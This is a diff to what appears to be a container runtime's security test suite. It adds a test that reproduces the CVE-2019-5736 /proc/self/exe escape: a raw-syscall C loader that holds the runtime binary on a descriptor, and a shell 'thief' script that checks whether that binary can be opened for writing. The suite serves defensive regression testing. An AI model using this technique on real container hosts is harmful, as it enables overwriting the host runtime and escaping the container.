@@ -11,6 +11,7 @@ import gzip
 import json
 import os
 import re
+import shutil
 import socket
 import subprocess
 import sys
@@ -173,9 +174,71 @@ def descriptors_are_seen(box):
     return re.search(r" -> .*(cgroup|/ct-)", seen_of_who_joins(box, "ls -l $p/fd")) is not None
 
 
-@attack("our program through /proc/PID/exe (CVE-2019-5736)", "hidden_entry")
+@attack("our program through /proc/PID/exe (CVE-2019-5736)", "hidden_entry", "protected_program")
 def our_program_is_found(box):
     return str(box.program.resolve()) in seen_of_who_joins(box, "readlink $p/exe")
+
+
+# As the loader of our program it is the first to run in there, when the command is #!/proc/self/exe.
+LOADER = r"""
+#include <fcntl.h>
+#include <sys/syscall.h>
+
+static long call(long number, const void* a, const void* b, const void* c)
+{
+  long result;
+  __asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
+  return result;
+}
+
+void _start(void)
+{
+  long fd = call(SYS_open, "/proc/self/exe", (void*)O_RDONLY, 0);
+  call(SYS_dup2, (void*)fd, (void*)9, 0);
+  const char* arguments[] = {"sh", "/thief", 0};
+  const char* environment[] = {"PATH=/bin", 0};
+  call(SYS_execve, "/bin/sh", arguments, environment);
+  call(SYS_exit, 0, 0, 0);
+}
+"""
+
+# Who holds the descriptor lives on; what it opens in the end is written nothing into.
+THIEF = """
+while [ ! -e /go ]; do sleep 0.1; done > /dev/null 2>&1 < /dev/null &&
+  { ( : >> /proc/self/fd/9 ) 2> /said && echo opened > /said; mv /said /done; } > /dev/null 2>&1 < /dev/null &
+"""
+
+
+@attack("our program by a kept descriptor, for writing (CVE-2019-5736)", "protected_program")
+def our_program_can_be_written(box):
+    """The program that joins is another copy than the keeper's, as after an upgrade: once it has ended nobody runs it,
+    and the kernel's ETXTBSY is no guard any more."""
+    source, tree = box.directory / "loader.c", box.directory / "context/tree"
+    source.write_text(LOADER)
+    loader = tree / re.search(r"(/lib\S+)]", subprocess.run(["readelf", "-lW", box.program], capture_output=True, text=True, check=True).stdout)[1].lstrip("/")
+    loader.parent.mkdir(parents=True)
+    subprocess.run(["gcc", "-nostdlib", "-static-pie", "-fPIE", "-fno-stack-protector", "-O1", "-o", loader, source], check=True)
+    box.image(evil="#!/proc/self/exe\n", thief=THIEF)
+    (tree / "evil").chmod(0o755)
+    box.ok("build", "image", box.directory / "context/Conductorfile")
+    box.ok("run", "image", "one", "-d", *HOST_USERS, "--", "sleep", "1000")
+    upgraded = box.directory / "upgraded/conductor"
+    upgraded.parent.mkdir()
+    shutil.copy(box.program, upgraded)
+    keepers, box.program = box.program, upgraded
+    box.ok("exec", "one", "--", "/evil")
+    box.program = keepers
+    box.ok("exec", "one", "--", "sh", "-c", ": > /go")
+    said = []
+
+    def done():
+        answer = box.run("exec", "one", "--", "cat", "/done")
+        said.append(answer.stdout)
+        return answer.returncode == 0
+
+    wait_until(done, 20)
+    assert said[-1] == "opened\n" or "Read-only file system" in said[-1], said[-1]
+    return said[-1] == "opened\n"
 
 
 @attack("user named as a number (CVE-2016-3697)", "numbers_first")
